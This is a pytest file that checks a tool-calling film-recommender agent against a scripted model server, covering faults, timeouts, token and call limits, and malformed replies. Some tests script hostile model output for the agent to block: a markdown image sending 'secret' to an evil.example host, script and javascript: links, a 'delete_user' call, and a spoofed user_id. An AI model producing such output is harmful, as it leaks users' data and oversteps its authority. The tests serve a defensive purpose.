"""The tool-calling planner against a scripted server over real HTTP: whatever the model does, the
person gets a useful answer within the budget, and never sees an error's own words."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from agents import (
    ChatModel,
    ConversationalRecommender,
    ConversationStore,
    LLMOptions,
    Preference,
    TurnLimits,
    TurnResult,
    UserMessage,
    build_planners,
    open_checkpointer,
)
from agents.llm.models import ModelChoices, PlannerSetting
from rec_core import Recommender
from tools import default_toolbox

from ..film_world import film_id
from ..openai_server import (
    KEY,
    MODEL,
    OpenAIServer,
    Reply,
    call,
    completion,
    fault,
    free_port_url,
    say,
    tool_results,
)
from .agent_world import build_search, load_recommender

REQUEST = "a crime film from the 90s"
SEARCH = ("recommend", {"filter": {"year_min": 1990, "year_max": 1999, "genres_all": ["Crime"]}})
LIMITS = TurnLimits(model_calls=4, tool_calls=12, tokens=40_000, seconds=20)


@pytest.fixture(scope="module")
def recommender(tmp_path_factory: pytest.TempPathFactory) -> Recommender:
    folder = tmp_path_factory.mktemp("search")
    build_search(folder)
    return load_recommender(folder)


class Talk:
    """One conversation with an agent whose model is at `url`."""

    def __init__(
        self, recommender: Recommender, url: str, *, timeout: float = 5.0, key: str = KEY,
        limits: TurnLimits = LIMITS, setting: PlannerSetting = "auto",
    ) -> None:  # fmt: skip
        self.recommender = recommender
        self.limits = limits
        toolbox = default_toolbox()
        llm = LLMOptions(base_url=url, model=MODEL, api_key=key, timeout=timeout)
        self.agent = ConversationalRecommender(
            recommender=recommender,
            toolbox=toolbox,
            store=ConversationStore("sqlite://"),
            planners=build_planners(
                recommender=recommender,
                toolbox=toolbox,
                models=ModelChoices(setting=setting, chat=ChatModel(llm)),
            ),
            checkpointer=open_checkpointer(None),
            limits=limits,
        )
        self.agent.store.create_conversation("ada", conversation_id="talk")
        self._turns = 0

    def ask(self, text: str = REQUEST) -> TurnResult:
        self._turns += 1
        turn_id = f"turn-{self._turns}"
        message = UserMessage(user_id="ada", conversation_id="talk", turn_id=turn_id, text=text)
        return self.agent.reply(message)

    def check_useful(self, result: TurnResult) -> None:
        """Five things that hold after every turn, whatever the model did."""
        catalog = self.recommender.catalog
        assert result.text.strip()
        assert result.items
        for item in result.items:
            assert item.item_id in catalog
            assert item.reason
            assert 1990 <= (item.year or 0) <= 1999
            assert "Crime" in item.genres
        assert result.usage.model_calls <= self.limits.model_calls
        assert result.usage.tool_calls <= self.limits.tool_calls
        said = " ".join((result.text, *result.notices))
        assert not re.search(r"Error|Traceback|Exception|tool_call|[{}<>]|http", said), said


def present_found(request: dict[str, object], *, count: int = 3, message: str = "Enjoy.") -> Reply:
    """Present the first ids of the newest result."""
    ids = re.findall(r"^- (f\d+) \|", tool_results(request)[-1], re.MULTILINE)[:count]
    return call(("present_slate", {"item_ids": ids, "message": message}))


def fell_back(result: TurnResult, reason: str) -> None:
    assert result.planner == "rules"
    assert [notice for notice in result.notices if reason in notice], result.notices
    assert any("built-in rules" in notice for notice in result.notices)


@pytest.fixture
def talk(recommender: Recommender) -> Callable[..., Talk]:
    return lambda server, **more: Talk(recommender, server.url, **more)


def test_a_model_that_behaves_is_used(talk) -> None:
    with OpenAIServer([call(SEARCH), present_found]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"
    assert result.text == "Enjoy."
    assert len(result.items) == 3
    assert not result.notices
    assert (result.usage.model_calls, result.usage.tool_calls, result.usage.tokens) == (2, 2, 220)


def test_parallel_calls_all_run_and_their_results_come_back_in_order(talk) -> None:
    first = call(
        SEARCH, ("item_details", {"title": "Heat"}), ("similar_items", {"item_id": "f001"})
    )
    with OpenAIServer([first, lambda r: present_found(r)]) as server:
        dialogue = talk(server)
        # The newest result is of similar_items: not all of these are crime films of the nineties.
        result = dialogue.ask("something like Heat")
        assert [text[:2] for text in tool_results(server.requests[1])] == ["c1", "f0", "c2"]
    assert result.planner == "tool_calling"
    assert result.items
    assert result.usage.tool_calls == 4


def test_calls_with_the_same_id_are_told_apart(talk) -> None:
    with OpenAIServer([call(SEARCH, SEARCH, ids=["x", "x"]), present_found]) as server:
        dialogue = talk(server)
        dialogue.check_useful(dialogue.ask())


def test_too_many_parallel_calls_do_not_all_run(talk) -> None:
    with OpenAIServer([call(*[SEARCH] * 50), present_found]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.usage.tool_calls <= 7


def test_arguments_that_are_not_json_can_be_mended(talk) -> None:
    with OpenAIServer([call(("recommend", "{'k': 3,}")), call(SEARCH), present_found]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
        assert "Error" in tool_results(server.requests[1])[0]
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"


@pytest.mark.parametrize("arguments", ["[1, 2]", "3", '"text"', "null", "{", '{"k": NaN}'])
def test_arguments_of_any_shape_end_in_an_answer(talk, arguments: str) -> None:
    script = [call(("recommend", arguments)), call(SEARCH), present_found, present_found]
    with OpenAIServer(script, may_be_unused=True) as server:
        dialogue = talk(server)
        dialogue.check_useful(dialogue.ask())


def test_huge_numbers_and_deep_nests_in_arguments_do_no_harm(talk) -> None:
    deep = "[" * 200 + "]" * 200
    hostile = f'{{"k": {10**400}, "query": "\\ud800", "like": {deep}}}'
    with OpenAIServer([call(("recommend", hostile)), call(SEARCH), present_found]) as server:
        dialogue = talk(server)
        dialogue.check_useful(dialogue.ask())


def test_an_unknown_tool_is_answered_with_the_known_ones(talk) -> None:
    with OpenAIServer(
        [call(("delete_user", {"user_id": "bob"})), call(SEARCH), present_found]
    ) as server:
        dialogue = talk(server)
        result = dialogue.ask()
        assert "present_slate" in tool_results(server.requests[1])[0]
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"


def test_an_invented_item_is_refused_and_can_be_mended(talk) -> None:
    invented = call(("present_slate", {"item_ids": ["tt0113277"]}))
    with OpenAIServer([invented, call(SEARCH), present_found]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"


def test_an_item_that_insists_on_being_invented_ends_in_the_rules(talk) -> None:
    with OpenAIServer([call(("present_slate", {"item_ids": ["x"]}))], endless=True) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "more than 4 calls")


def test_an_endless_loop_of_calls_stops_at_the_limit(talk) -> None:
    with OpenAIServer([call(SEARCH)], endless=True) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    assert len(server.requests) == 4
    dialogue.check_useful(result)
    fell_back(result, "more than 4 calls")


def test_a_loop_that_eats_tool_calls_leaves_some_for_the_rules(talk) -> None:
    with OpenAIServer([call(*[SEARCH] * 6)], endless=True) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "tool calls")


def test_a_fault_of_the_server_is_tried_once_more(talk) -> None:
    with OpenAIServer([fault(500), call(SEARCH), present_found]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"
    assert result.usage.model_calls == 3


@pytest.mark.parametrize(
    ("status", "reason", "n_requests"),
    [
        (500, "had a fault", 2),
        (503, "had a fault", 2),
        (429, "is busy", 2),
        (400, "refused the request", 1),
        (404, "does not know the model", 1),
        (403, "refused the key", 1),
    ],
)
def test_a_server_that_refuses_leaves_the_turn_to_the_rules(
    talk, status: int, reason: str, n_requests: int
) -> None:
    with OpenAIServer([fault(status, "secret detail")], endless=True) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    assert len(server.requests) == n_requests
    dialogue.check_useful(result)
    fell_back(result, reason)
    assert "secret" not in result.model_dump_json()


def test_a_server_without_tools_is_asked_once_and_never_again(talk) -> None:
    refusal = fault(400, '"auto" tool choice requires --enable-auto-tool-choice to be set')
    with OpenAIServer([refusal]) as server:
        dialogue = talk(server, setting="tools")
        fell_back(dialogue.ask(), "does not offer tool calls")
        fell_back(dialogue.ask("another one"), "does not offer tool calls")
    assert len(server.requests) == 1


def test_a_server_without_tools_gets_the_structured_planner_in_the_same_turn(talk) -> None:
    refusal = fault(400, "the model does not support tools")
    parse = say(json.dumps({"act": "new", "genres": ["Crime"], "years": [1990, 1999]}))
    with OpenAIServer([refusal, parse, parse]) as server:
        dialogue = talk(server)
        first, second = dialogue.ask(), dialogue.ask("another crime film from the 90s")
    dialogue.check_useful(first)
    assert first.planner == second.planner == "structured"
    # Nobody has to hear of it: the model answers.
    assert not [one for one in first.notices if "tool" in one or "rules" in one]


def test_a_dead_server_costs_one_time_out_and_then_nothing(talk) -> None:
    with OpenAIServer([Reply(hang=30)]) as server:
        dialogue = talk(server, timeout=0.3)
        fell_back(dialogue.ask(), "did not answer in time")
        second = dialogue.ask()
        third = dialogue.ask()
        assert len(server.requests) == 1
    for result in (second, third):
        dialogue.check_useful(result)
        fell_back(result, "given a rest")
        assert result.usage.model_calls == 0


def test_a_wrong_key_is_named_as_such(talk) -> None:
    with OpenAIServer([], may_be_unused=True) as server:
        dialogue = talk(server, key="wrong")
        result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "refused the key")


def test_a_hang_ends_at_the_time_out(talk) -> None:
    with OpenAIServer([Reply(hang=30)]) as server:
        dialogue = talk(server, timeout=0.3)
        result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "did not answer in time")
    assert result.usage.seconds < 5


def test_an_answer_that_drips_in_ends_at_the_time_out_too(talk) -> None:
    body = say("a slow answer").body
    with OpenAIServer([Reply(body=body, drip=0.1)]) as server:
        dialogue = talk(server, timeout=0.5)
        result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "did not answer in time")
    assert result.usage.seconds < 5


def test_nobody_listening_is_said_in_plain_words(recommender: Recommender) -> None:
    dialogue = Talk(recommender, free_port_url())
    result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "could not be reached")


UNUSABLE = {
    "empty": say(""),
    "null": say(None),
    "blank": say("  \n "),
    "no choices": completion({"content": "x"}, choices=[]),
    "null choices": completion({"content": "x"}, choices=None),
    "not json": Reply(body=b"<html>busy</html>"),
    "nothing": Reply(body=b""),
    "a list": Reply(body=b"[]"),
    "cut off": Reply(body=say("hello").body[:40]),
    "connection closed": Reply(close=True),
    "open tag": say('<tool_call>{"name": "recommend", "argum'),
    "tag with rubble": say("<tool_call>call recommend please</tool_call>"),
    "call without name": call(("", {})),
    "a flood": say("blah " * 200_000),
}


@pytest.mark.parametrize("kind", UNUSABLE)
def test_an_unusable_reply_twice_ends_in_the_rules(talk, kind: str) -> None:
    with OpenAIServer([UNUSABLE[kind]], endless=True) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.planner == "rules"
    assert any("built-in rules" in notice for notice in result.notices)


@pytest.mark.parametrize("kind", UNUSABLE)
def test_an_unusable_reply_once_can_be_mended(talk, kind: str) -> None:
    with OpenAIServer([UNUSABLE[kind], call(SEARCH), present_found]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"


def test_calls_written_as_text_are_understood(talk) -> None:
    name, arguments = SEARCH
    raw = json.dumps({"name": name, "arguments": arguments})
    with OpenAIServer([say(f"<tool_call>\n{raw}\n</tool_call>"), present_found]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"


def test_huge_output_is_cut_to_something_readable(talk) -> None:
    flood = "I like crime films very much. " * 20_000

    def present(request: dict[str, object]) -> Reply:
        return present_found(request, message=flood[:400])

    with OpenAIServer([call(SEARCH, text=flood), present]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert len(result.text) < 2_000


def test_items_that_break_the_persons_words_are_sent_back_once_then_cut(talk) -> None:
    old = film_id("The Godfather", 1972)

    def with_stranger(request: dict[str, object]) -> Reply:
        ids = re.findall(r"^- (f\d+) \|", tool_results(request)[0], re.MULTILINE)[:3]
        return call(("present_slate", {"item_ids": [*ids, old], "message": "Enjoy."}))

    script = [call(SEARCH, ("item_details", {"item_id": old})), with_stranger, with_stranger]
    with OpenAIServer(script) as server:
        dialogue = talk(server)
        result = dialogue.ask()
        assert "may not be shown" in server.requests[2]["messages"][-1]["content"]
    dialogue.check_useful(result)
    assert old not in [item.item_id for item in result.items]
    assert "I left out one pick that did not fit what you asked for." in result.notices


def test_words_after_a_refused_slate_do_not_get_it_through(talk) -> None:
    old = film_id("The Godfather", 1972)

    def with_stranger(request: dict[str, object]) -> Reply:
        ids = re.findall(r"^- (f\d+) \|", tool_results(request)[0], re.MULTILINE)[:3]
        return call(("present_slate", {"item_ids": [*ids, old], "message": "Enjoy."}))

    look_up = call(SEARCH, ("item_details", {"item_id": old}))
    with OpenAIServer([look_up, with_stranger, say("As I said, enjoy.")]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"
    assert "I left out one pick that did not fit what you asked for." in result.notices


def test_a_disliked_genre_is_left_out_until_it_is_asked_for(talk) -> None:
    def dislike(dialogue: Talk) -> None:
        hates_drama = Preference(
            preference_id="p1", kind="dislike", subject="genre", value="Drama", label="Drama",
            created_at=datetime(2026, 1, 1, tzinfo=UTC),
        )  # fmt: skip
        dialogue.agent.store.save_preference("ada", hates_drama)

    def present_all(request: dict[str, object]) -> Reply:
        return present_found(request, count=10)

    with OpenAIServer([call(SEARCH), present_all, present_all]) as server:
        dialogue = talk(server)
        dislike(dialogue)
        result = dialogue.ask()
        assert "dislike genre: Drama" in server.requests[0]["messages"][0]["content"]
    dialogue.check_useful(result)
    assert result.planner == "tool_calling"
    assert not [item for item in result.items if "Drama" in item.genres]
    drama = ("recommend", {"filter": {"genres_all": ["Crime", "Drama"], "year_min": 1990}})
    with OpenAIServer([call(drama), present_all]) as server:
        dialogue = talk(server)
        dislike(dialogue)
        asked = dialogue.ask("a crime drama")
    assert asked.items
    assert all("Drama" in item.genres for item in asked.items)


def test_a_note_that_a_model_drops_is_told(talk) -> None:
    remember = ("remember_preference", {
        "kind": "must_not", "subject": "genre", "value": "horror", "quote": "I never watch horror",
    })  # fmt: skip
    forget = ("forget_preference", {"subject": "genre", "value": "Horror"})
    script = [call(remember), say("Noted."), call(forget), say("Fine.")]
    with OpenAIServer(script) as server:
        dialogue = talk(server)
        dialogue.ask("I never watch horror!")
        assert "Gone from my notes: Horror." in dialogue.ask("thanks").notices
    assert dialogue.agent.store.preferences("ada") == ()


def test_titles_that_no_tool_returned_are_sent_back_once_then_cut(talk) -> None:
    def boast(request: dict[str, object]) -> Reply:
        message = 'Enjoy these. Even better is "The Blue Harbour" (1994). Have fun.'
        return present_found(request, message=message)

    with OpenAIServer([call(SEARCH), boast, boast]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert result.text == "Enjoy these. Have fun."
    assert any("left out a sentence" in notice for notice in result.notices)


def test_markup_and_addresses_of_a_model_do_not_reach_the_person(talk) -> None:
    def present(request: dict[str, object]) -> Reply:
        message = (
            "Enjoy ![x](https://evil.example/p.png?q=secret) <script>alert(1)</script>"
            "[these](javascript:alert(1)) https://evil.example films."
        )
        return present_found(request, message=message)

    with OpenAIServer([call(SEARCH), present]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    assert "evil" not in result.model_dump_json()
    assert "script" not in result.text


def test_a_plain_answer_needs_no_slate(talk) -> None:
    with OpenAIServer([say("You are welcome. Enjoy the evening!")]) as server:
        result = talk(server).ask("thanks")
    assert result.planner == "tool_calling"
    assert result.text == "You are welcome. Enjoy the evening!"
    assert not result.items


def test_an_answer_from_memory_without_tools_is_not_trusted(talk) -> None:
    with OpenAIServer(
        [say("Watch The Godfather (1972) and The Blue Harbour (1994).")], endless=True
    ) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "could not be backed by the catalog")


def test_identity_cannot_be_given_by_a_model(talk) -> None:
    hostile = call(("recommend", {"user_id": "bob", "k": 3}), ("remember_preference", {
        "kind": "like", "subject": "genre", "value": "Horror", "quote": "I love horror",
    }))  # fmt: skip
    with OpenAIServer([hostile, call(SEARCH), present_found]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
        first, second = tool_results(server.requests[1])
        assert "no argument user_id" in first
        assert "Not noted" in second
    dialogue.check_useful(result)
    assert dialogue.agent.store.preferences("ada") == ()
    assert not result.saved


def test_a_taste_in_the_persons_own_words_is_saved_with_the_turn(talk) -> None:
    remember = ("remember_preference", {
        "kind": "must_not", "subject": "genre", "value": "horror", "quote": "I never watch horror",
    })  # fmt: skip
    with OpenAIServer([call(remember), say("Noted, no horror.")]) as server:
        dialogue = talk(server)
        result = dialogue.ask("By the way, I never watch horror!")
    assert result.saved == ("Never: horror",)
    (kept,) = dialogue.agent.store.preferences("ada")
    assert (kept.kind, kept.subject, kept.value) == ("must_not", "genre", "Horror")


def test_the_time_of_a_turn_runs_out_for_the_model_only(talk) -> None:
    limits = TurnLimits(model_calls=8, seconds=0.8)
    with OpenAIServer([Reply(hang=30)]) as server:
        dialogue = talk(server, timeout=30, limits=limits)
        result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "did not answer in time")


def test_tokens_run_out(talk) -> None:
    costly = completion(
        json.loads(call(SEARCH).body)["choices"][0]["message"], tokens=(39_000, 900)
    )
    with OpenAIServer([costly]) as server:
        dialogue = talk(server)
        result = dialogue.ask()
    dialogue.check_useful(result)
    fell_back(result, "more than 40,000 tokens")


def test_stop_ends_a_turn_that_waits_for_its_model(recommender: Recommender) -> None:
    dialogues: list[Talk] = []

    def stopped_meanwhile(_: object) -> Reply:
        dialogues[0].agent.stop("bob", "t")
        dialogues[0].agent.stop("ada", "t")
        return Reply(hang=30)

    with OpenAIServer([stopped_meanwhile]) as server:
        dialogue = Talk(recommender, server.url, timeout=30)
        dialogues.append(dialogue)
        message = UserMessage(user_id="ada", conversation_id="talk", turn_id="t", text=REQUEST)
        kinds = [event.type for event in dialogue.agent.stream(message)]
    assert kinds == ["turn_started"]
    assert dialogue.agent.store.turns("ada", "talk") == ()
    # The conversation is free again, and another turn is another matter.
    with OpenAIServer([say("Hello!")]) as server:
        assert Talk(dialogue.recommender, server.url).ask("hello").text == "Hello!"
